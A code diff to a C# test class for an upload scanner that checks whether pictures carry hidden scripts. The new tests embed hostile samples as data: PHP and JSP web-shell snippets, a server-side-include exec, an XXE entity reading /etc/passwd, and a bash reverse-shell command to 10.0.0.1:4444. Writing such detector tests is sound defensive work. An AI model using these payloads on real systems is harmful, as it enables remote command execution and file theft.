@@ -30,9 +30,31 @@ public sealed class UploadContentTests
         Assert.True(IsStopped(Encoding.ASCII.GetBytes(program)));
     }
 
-    // What is between is not read: docs/signatures.md says so.
+    [Theory]
+    [InlineData("<?php system($_GET[0]); ?>")]
+    [InlineData("<?=`$_GET[0]`?>")]
+    [InlineData("<%@ page import=\"java.io.*\" %>")]
+    [InlineData("<!--#exec cmd=\"id\"-->")]
+    [InlineData("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>")]
+    public void What_begins_in_the_middle_of_a_long_picture_is_read_from_there(string program)
+    {
+        Assert.True(IsStopped(Picture(5, 100 * 1024, program)));
+        Assert.True(IsStopped(Picture(6, (64 * 1024) - 4, program)));
+        Assert.True(IsStopped(Picture(7, Length - (16 * 1024) - 4, program + new string(' ', 64))));
+    }
+
+    // The same openings over and over, so that what comes behind them were not read any more if their number ended it.
     [Fact]
-    public void The_middle_of_a_long_file_is_passed_over() => Assert.False(IsStopped(Picture(5, 100 * 1024, "<?php system($_GET[0]); ?>")));
+    public void Openings_that_are_none_hide_nothing()
+    {
+        var picture = Picture(8, 200 * 1024, "<?php system($_GET[0]); ?>");
+        for (var i = 0; i < 60; i++) "<?p"u8.CopyTo(picture.AsSpan((66 * 1024) + (i * 512)));
+        Assert.True(IsStopped(picture));
+    }
+
+    // A script of a shell begins where the file does.
+    [Fact]
+    public void What_opens_nothing_is_passed_over_in_the_middle_of_a_long_file() => Assert.False(IsStopped(Picture(5, 100 * 1024, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")));
 
     [Fact]
     public void A_picture_is_no_program()
